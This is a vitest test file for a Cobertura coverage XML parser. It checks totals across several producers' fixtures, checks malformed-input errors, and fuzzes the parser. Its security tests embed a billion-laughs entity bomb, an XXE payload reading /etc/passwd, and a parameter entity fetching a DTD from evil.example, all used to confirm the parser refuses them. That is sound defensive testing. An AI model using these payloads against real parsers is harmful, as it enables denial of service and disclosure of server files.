import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CoverageParseError, type FileCoverage } from '../model.js';
import { computeTotals } from '../totals.js';
import { MAX_CONDITIONS_PER_LINE, parseCobertura } from './cobertura.js';

const DIR = join(import.meta.dirname, '../../../test/fixtures/coverage/cobertura');
const fixture = (name: string) => readFileSync(join(DIR, name), 'utf8');
const XML_FIXTURES = ['coverage.xml', 'dotnet-style.xml', 'jacoco-style.xml'];

function expectParseError(run: () => unknown, pattern?: RegExp): CoverageParseError {
  try {
    run();
  } catch (err) {
    expect(err).toBeInstanceOf(CoverageParseError);
    if (pattern) expect((err as Error).message).toMatch(pattern);
    return err as CoverageParseError;
  }
  throw new Error('expected a CoverageParseError');
}

function byPath(files: FileCoverage[], path: string): FileCoverage {
  const file = files.find((f) => f.path === path);
  if (!file) throw new Error(`no ${path} in ${files.map((f) => f.path).join(', ')}`);
  return file;
}

function lines(file: FileCoverage): [number, number][] {
  return [...file.lineNumbers].map((line, i) => [line, file.lineHits[i]!]);
}

/** The totals the producing tool wrote on the root element. */
function rootAttributes(xml: string): Record<string, number> {
  const root = /<coverage\b([^>]*)>/.exec(xml)![1]!;
  return Object.fromEntries([...root.matchAll(/([\w-]+)="([^"]*)"/g)].map(([, k, v]) => [k!, Number(v)]));
}

describe('parseCobertura on coverage.py output', () => {
  it("line and branch totals equal coverage.py's own JSON totals", () => {
    const report = parseCobertura(fixture('coverage.xml'), 'coverage.xml');
    const oracle = JSON.parse(fixture('coverage.json')).totals;
    const totals = computeTotals(report.files);
    expect(totals.lines.total).toBe(oracle.num_statements);
    expect(totals.lines.covered).toBe(oracle.covered_lines);
    expect(totals.branches.total).toBe(oracle.num_branches);
    expect(totals.branches.covered).toBe(oracle.covered_branches);
  });

  it("per-file lines equal coverage.py's statements and missing lines", () => {
    const report = parseCobertura(fixture('coverage.xml'), 'coverage.xml');
    // executed_lines is not used: coverage.py 6.5 lists a module docstring there without counting it.
    const files = JSON.parse(fixture('coverage.json')).files as Record<
      string,
      { missing_lines: number[]; summary: { num_statements: number; covered_lines: number } }
    >;
    expect(report.files.map((f) => f.path).sort()).toEqual(Object.keys(files).sort());
    for (const file of report.files) {
      const { missing_lines, summary } = files[file.path]!;
      expect(file.lineNumbers.length).toBe(summary.num_statements);
      expect(lines(file).filter(([, h]) => h > 0).length).toBe(summary.covered_lines);
      expect(
        lines(file)
          .filter(([, h]) => h === 0)
          .map(([l]) => l),
      ).toEqual(missing_lines);
    }
  });

  it('returns the <sources> roots', () => {
    expect(parseCobertura(fixture('coverage.xml'), 'coverage.xml').sourceRoots).toEqual(['/ci/shop-py']);
  });
});

describe('parseCobertura on other producers', () => {
  for (const name of XML_FIXTURES) {
    it(`${name}: totals equal the lines-/branches- attributes of <coverage>`, () => {
      const xml = fixture(name);
      const report = parseCobertura(xml, name);
      expect(report.format).toBe('cobertura');
      const totals = computeTotals(report.files);
      const root = rootAttributes(xml);
      expect([
        totals.lines.covered,
        totals.lines.total,
        totals.branches.covered,
        totals.branches.total,
      ]).toEqual([
        root['lines-covered'],
        root['lines-valid'],
        root['branches-covered'],
        root['branches-valid'],
      ]);
    });
  }

  it('coverlet: merges classes of one file, reads methods and absolute Windows sources', () => {
    const report = parseCobertura(fixture('dotnet-style.xml'), 'dotnet-style.xml');
    expect(report.sourceRoots).toEqual(['C:\\work\\shop\\src\\']);
    expect(report.files.map((f) => f.path)).toEqual(['Shop\\Cart.cs', 'Shop\\Legacy.cs']);
    const cart = byPath(report.files, 'Shop\\Cart.cs');
    expect(lines(cart)).toEqual([
      [12, 3],
      [13, 3],
      [14, 3],
      [18, 2],
      [19, 2],
      [20, 0],
      [22, 5],
    ]);
    expect(cart.functions).toEqual([
      { name: 'Add', line: 12, hits: 3 },
      { name: 'Total', line: 18, hits: 2 },
      { name: '<Total>b__0', line: 22, hits: 5 },
    ]);
    // "50% (2/4)" on line 19: four conditions, two taken.
    expect(cart.branches.filter((b) => b.line === 19).map((b) => b.hits)).toEqual([1, 1, 0, 0]);
    expect(byPath(report.files, 'Shop\\Legacy.cs').functions).toEqual([{ name: 'Old', line: 5, hits: 0 }]);
  });

  it('JaCoCo-converted: accepts the SYSTEM doctype without fetching it and keeps every source root', () => {
    const report = parseCobertura(fixture('jacoco-style.xml'), 'jacoco-style.xml');
    expect(report.sourceRoots).toEqual([
      '/home/runner/work/shop/shop/core/src/main/java',
      '/home/runner/work/shop/shop/api/src/main/java',
    ]);
    const cart = byPath(report.files, 'com/example/shop/Cart.java');
    expect(cart.functions.map((f) => f.name)).toEqual(['<init>', 'add', 'total']);
    expect(lines(cart).map(([l]) => l)).toEqual([8, 12, 13, 15, 16, 22, 23]);
  });

  it('adds the hits of a line reported by two classes and keeps the better condition report', () => {
    const xml = `<coverage><packages><package><classes>
      <class name="A" filename="a.py"><lines><line number="1" hits="2" branch="true" condition-coverage="50% (1/2)"/></lines></class>
      <class name="B" filename="a.py"><lines><line number="1" hits="3" branch="true" condition-coverage="100% (2/2)"/>
        <line number="2" hits="0"/></lines></class>
    </classes></package></packages></coverage>`;
    const [file] = parseCobertura(xml, 'c.xml').files;
    expect(lines(file!)).toEqual([
      [1, 5],
      [2, 0],
    ]);
    expect(file!.branches.map((b) => b.hits)).toEqual([1, 1]);
  });
});

describe('parseCobertura refuses what it cannot trust', () => {
  it('refuses entity declarations: billion laughs and external entities', () => {
    const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<coverage><sources><source>&lol3;</source></sources></coverage>`;
    expectParseError(() => parseCobertura(laughs, 'bomb.xml'), /refusing XML with entity declarations/);
    const xxe = `<?xml version="1.0"?><!DOCTYPE coverage [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<coverage><sources><source>&x;</source></sources></coverage>`;
    expectParseError(() => parseCobertura(xxe, 'xxe.xml'), /refusing XML with entity declarations/);
    const parameter = '<!DOCTYPE coverage [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><coverage/>';
    expectParseError(() => parseCobertura(parameter, 'p.xml'), /refusing/);
  });

  it('refuses entity references with nothing to define them', () => {
    expectParseError(
      () => parseCobertura('<coverage><sources><source>&x;</source></sources></coverage>', 'e.xml'),
      /not well-formed XML: undefined entity/,
    );
  });

  it('names file and line of malformed documents and attributes', () => {
    const broken = expectParseError(
      () => parseCobertura('<coverage>\n<packages>\n</coverage>', 'b.xml'),
      /not well-formed/,
    );
    expect(broken.line).toBe(3);
    expect(broken.file).toBe('b.xml');
    expectParseError(
      () => parseCobertura('<report name="x"/>', 'j.xml'),
      /expected a <coverage> root element.*<report>/,
    );
    expectParseError(() => parseCobertura('', 'e.xml'), /empty/);
    expectParseError(
      () =>
        parseCobertura(
          '<?xml version="1.0"?>\n<coverage generated="1"><project timestamp="1"/></coverage>',
          'clover.xml',
        ),
      /Clover XML/,
    );
    expectParseError(() => parseCobertura('<?xml version="1.0"?>', 'e.xml'), /must contain a root element$/);
    const noName = expectParseError(
      () => parseCobertura('<coverage>\n<class name="A"/></coverage>', 'c.xml'),
      /no filename/,
    );
    expect(noName.line).toBe(2);
    expectParseError(
      () =>
        parseCobertura(
          '<coverage><class filename="a"><lines><line number="x" hits="1"/></lines></class></coverage>',
          'c.xml',
        ),
      /number="x"/,
    );
    expectParseError(
      () =>
        parseCobertura(
          '<coverage><class filename="a"><lines><line number="1" hits="-1"/></lines></class></coverage>',
          'c.xml',
        ),
      /hits="-1"/,
    );
    expectParseError(
      () =>
        parseCobertura(
          '<coverage><class filename="a"><lines><line number="1" hits="1" branch="true" condition-coverage="3 of 4"/></lines></class></coverage>',
          'c.xml',
        ),
      /condition-coverage="3 of 4"/,
    );
    expectParseError(
      () =>
        parseCobertura(
          `<coverage><class filename="a"><lines><line number="1" hits="1" branch="true" condition-coverage="0% (0/${MAX_CONDITIONS_PER_LINE + 1})"/></lines></class></coverage>`,
          'c.xml',
        ),
      /claims/,
    );
  });
});

describe('parseCobertura never throws anything but CoverageParseError', () => {
  function parsesOrRefuses(text: string): void {
    try {
      parseCobertura(text, 'fuzz.xml');
    } catch (err) {
      if (!(err instanceof CoverageParseError)) throw err;
    }
  }

  it('on every prefix of the fixtures', () => {
    for (const name of XML_FIXTURES) {
      const text = fixture(name);
      for (let cut = 0; cut <= text.length; cut += 11) parsesOrRefuses(text.slice(0, cut));
    }
  });

  it('on random element soups, random text and binary data', () => {
    const attrValue = fc.oneof(fc.string({ maxLength: 6 }), fc.nat().map(String), fc.constant('50% (1/2)'));
    const element = fc
      .tuple(
        fc.constantFrom('coverage', 'sources', 'source', 'class', 'lines', 'line', 'methods', 'method', 'x'),
        fc.array(
          fc.tuple(
            fc.constantFrom('filename', 'number', 'hits', 'branch', 'condition-coverage', 'name'),
            attrValue,
          ),
          {
            maxLength: 4,
          },
        ),
        fc.boolean(),
      )
      .map(([name, attrs, selfClose]) => {
        const a = attrs.map(([k, v]) => ` ${k}="${v.replace(/[<&"]/g, '')}"`).join('');
        return selfClose ? `<${name}${a}/>` : `<${name}${a}>`;
      });
    const closing = fc.constantFrom(
      '</coverage>',
      '</class>',
      '</lines>',
      '</line>',
      '</method>',
      '</source>',
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(element, closing, fc.string({ maxLength: 5 })), { maxLength: 30 }),
        (parts) => parsesOrRefuses(`<coverage>${parts.join('')}</coverage>`),
      ),
      { numRuns: 300 },
    );
    fc.assert(fc.property(fc.string(), parsesOrRefuses), { numRuns: 200 });
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) =>
        parsesOrRefuses(Buffer.from(bytes).toString('latin1')),
      ),
      { numRuns: 200 },
    );
  });

  it('on deep nesting, a huge single line and other formats', () => {
    parsesOrRefuses(`<coverage>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</coverage>`);
    parsesOrRefuses(`<coverage>${'<a>'.repeat(100_000)}`);
    parsesOrRefuses(`<coverage><sources><source>${'x'.repeat(2_000_000)}</source></sources></coverage>`);
    parsesOrRefuses(`<coverage a="${'x'.repeat(2_000_000)}`);
    parsesOrRefuses('mode: set\na.go:1.1,1.2 1 1\n');
    parsesOrRefuses('{"a.js":{"statementMap":{}}}');
    parsesOrRefuses('TN:\nSF:a.c\nend_of_record\n');
  });
});
